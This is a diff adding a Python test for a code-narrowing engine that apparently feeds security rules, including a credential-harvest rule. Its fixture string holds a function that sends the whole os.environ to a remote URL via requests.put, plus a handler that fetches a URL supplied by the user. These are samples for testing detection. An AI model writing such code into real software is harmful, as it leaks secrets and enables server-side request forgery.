@@ -279,3 +279,47 @@ def test_a_value_reaches_only_later_statements_of_its_scope_loops_and_nested_fun
     seen = mentions(text, tree, runner().triggers)
     added = {3, 4, 6, 8, 11, 13, 18}
     assert owned_by_triggers(tree, added, seen) == {6, 8, 11, 18}
+
+
+def test_narrowing_keeps_the_definitions_that_a_rule_reading_them_needs() -> None:
+    """Web rules follow a call into a helper and `self.session` to the `__init__` that set
+    it; the credential-harvest rule follows a module-level value to the function that sends
+    it. Narrowing for them keeps those definitions (and only those); for other rules each is
+    a one-line stub."""
+    from hooks.engine.narrow import narrow
+
+    text = (
+        "import os, requests\n"
+        "ENV = dict(os.environ)\n"  # 2
+        "def fetch(host):\n"  # 3: the kept code calls it
+        "    return requests.get(host).json()\n"
+        "def unrelated(a):\n"  # 5
+        "    return a * 2\n"
+        "def beat():\n"  # 7: reads ENV, which the kept code gives a value
+        "    requests.put(URL, json=ENV)\n"
+        "class Preview:\n"
+        "    def __init__(self):\n"  # 10: gives `self.session` its value
+        "        self.session = requests.Session()\n"
+        "    def other(self):\n"  # 12
+        "        return 1\n"
+        "    def get(self, request):\n"
+        "        return self.session.get(fetch(request.GET['u']))\n"  # 15
+    )
+    tree = ast.parse(text)
+
+    def kept(**how: bool) -> List[str]:
+        narrowed = narrow(text, tree, {2, 15}, **how)
+        assert narrowed is not None
+        return [line.strip() for line in narrowed.splitlines()]
+
+    lines = text.splitlines()
+    followed = kept(definitions_read=True)
+    assert followed[4:6] == ["def unrelated(): pass", ""]
+    assert followed[11:13] == ["def other(): pass", ""]
+    assert [followed[n - 1] for n in (3, 4, 7, 8, 10, 11)] == [
+        lines[n - 1].strip() for n in (3, 4, 7, 8, 10, 11)
+    ]
+    plain = kept()
+    assert [plain[n - 1] for n in (3, 4, 7, 8, 10, 11)] == [
+        "def fetch(): pass", "", "def beat(): pass", "", "def __init__(): pass", ""
+    ]  # fmt: skip
